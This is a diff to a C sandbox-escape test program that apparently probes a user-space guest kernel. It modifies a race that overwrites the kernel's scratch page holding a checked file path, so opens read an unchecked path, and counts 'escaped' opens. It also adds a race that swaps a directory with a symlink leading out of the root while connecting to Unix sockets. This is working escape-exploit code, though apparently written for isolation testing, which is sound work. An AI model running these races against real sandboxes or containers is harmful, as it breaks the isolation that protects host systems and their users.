@@ -56,19 +56,21 @@ static int flip(void) {
     return 0;
 }
 
-/* --- scratch: find the guest kernel's scratch page and overwrite the address it wrote. */
+/* --- scratch: find the guest kernel's scratch page (the host path of data/a it wrote for an
+ * open) and overwrite it with the host path of data/b while another thread opens data/a: an
+ * open that reads "b" used a path the guest changed after the guest kernel's check. */
 static char *target_page;
+static char swapped_path[4096];
 static int copy_in[2];
 static void *overwriter(void *arg) {
     (void)arg;
-    struct sockaddr_un un = {.sun_family = AF_UNIX};
-    strncpy(un.sun_path, outside, sizeof un.sun_path - 1);
+    size_t n = strlen(swapped_path) + 1;
     long writable = 0;
     while (!stop) {
         /* write() then read() into the page: EFAULT instead of a crash when it is read-only. */
-        if (write(copy_in[1], &un, sizeof un) != sizeof un) break;
-        if (read(copy_in[0], target_page, sizeof un) == sizeof un) writable++;
-        else { char junk[sizeof un]; if (read(copy_in[0], junk, sizeof junk) < 0) break; }
+        if (write(copy_in[1], swapped_path, n) != (ssize_t)n) break;
+        if (read(copy_in[0], target_page, n) == (ssize_t)n) writable++;
+        else { char junk[4096]; if (read(copy_in[0], junk, n) < 0) break; }
     }
     return (void *)writable;
 }
@@ -84,25 +86,24 @@ static int readable(const void *at, size_t len, char *out) {
 }
 
 static int scratch(void) {
-    struct sockaddr_un in = {.sun_family = AF_UNIX, .sun_path = "/data/in.sock"};
-    int s = socket(AF_UNIX, SOCK_STREAM, 0);
-    connect(s, (struct sockaddr *)&in, sizeof in);
-    close(s);
+    close(open("/data/a", O_RDONLY));
     /* The guest kernel maps its scratch with mmap(NULL): just above our next mapping. */
     char *probe = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
     char *found = NULL;
+    static char buf[4096];
     for (int i = 1; i < 4096 && !found; i++) {
         char *page = probe + 4096L * i;
-        char buf[sizeof(struct sockaddr_un)];
         if (!readable(page, sizeof buf, buf)) continue;
-        if (buf[0] == AF_UNIX && buf[1] == 0 && strstr(buf + 2, "/data/in.sock") && buf[2] == '/' &&
-            strcmp(buf + 2, "/data/in.sock") != 0)
-            found = page;
+        buf[sizeof buf - 1] = 0;
+        size_t n = strlen(buf);
+        if (buf[0] == '/' && n > 7 && !strcmp(buf + n - 7, "/data/a") && strcmp(buf, "/data/a") != 0) found = page;
     }
     if (!found) {
         printf("scratch found=0 writable=0 escaped=0\n");
         return 0;
     }
+    strcpy(swapped_path, buf);
+    swapped_path[strlen(swapped_path) - 1] = 'b';
     target_page = found;
     if (pipe(copy_in)) return 1;
     int mp = mprotect(found, 4096, PROT_READ | PROT_WRITE);
@@ -112,9 +113,10 @@ static int scratch(void) {
     pthread_create(&t, NULL, overwriter, NULL);
     long escaped = 0;
     for (long i = 0; i < iterations; i++) {
-        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
-        if (connect(s, (struct sockaddr *)&in, sizeof in) == 0) escaped++;
-        close(s);
+        int fd = open("/data/a", O_RDONLY);
+        char c = 0;
+        if (fd >= 0 && read(fd, &c, 1) == 1 && c == 'b') escaped++;
+        if (fd >= 0) close(fd);
     }
     stop = 1;
     void *w;
@@ -234,6 +236,35 @@ static int channel(void) {
     return 0;
 }
 
+/* --- swap: a directory on the way to a socket is exchanged with a symbolic link out of the
+ * root while another thread connects to (and sends datagrams to) the socket beneath it:
+ * data/d/sock and data/d/dgram, with data/l the link. Relative paths, so that the same
+ * program run natively from the root's directory shows the race can be won. */
+static void *swapper(void *arg) {
+    (void)arg;
+    while (!stop) syscall(SYS_renameat2, AT_FDCWD, "data/d", AT_FDCWD, "data/l", 2 /* RENAME_EXCHANGE */);
+    return NULL;
+}
+
+static int swap(void) {
+    struct sockaddr_un st = {.sun_family = AF_UNIX, .sun_path = "data/d/sock"};
+    struct sockaddr_un dg = {.sun_family = AF_UNIX, .sun_path = "data/d/dgram"};
+    pthread_t t;
+    pthread_create(&t, NULL, swapper, NULL);
+    long connected = 0, sent = 0;
+    int d = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+    for (long i = 0; i < iterations; i++) {
+        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
+        if (connect(s, (struct sockaddr *)&st, sizeof st) == 0) connected++;
+        close(s);
+        if (sendto(d, "x", 1, 0, (struct sockaddr *)&dg, sizeof dg) == 1) sent++;
+    }
+    stop = 1;
+    pthread_join(t, NULL);
+    printf("swap connected=%ld sent=%ld of %ld\n", connected, sent, iterations);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IONBF, 0);
     if (argc < 2) return 2;
@@ -247,5 +278,6 @@ int main(int argc, char **argv) {
     if (!strcmp(mode, "shm")) return shm(argv[2]);
     if (!strcmp(mode, "mknod")) return mknod_kmsg(argv[2]);
     if (!strcmp(mode, "channel")) return channel();
+    if (!strcmp(mode, "swap")) return iterations = atol(argv[2]), swap();
     return 2;
 }
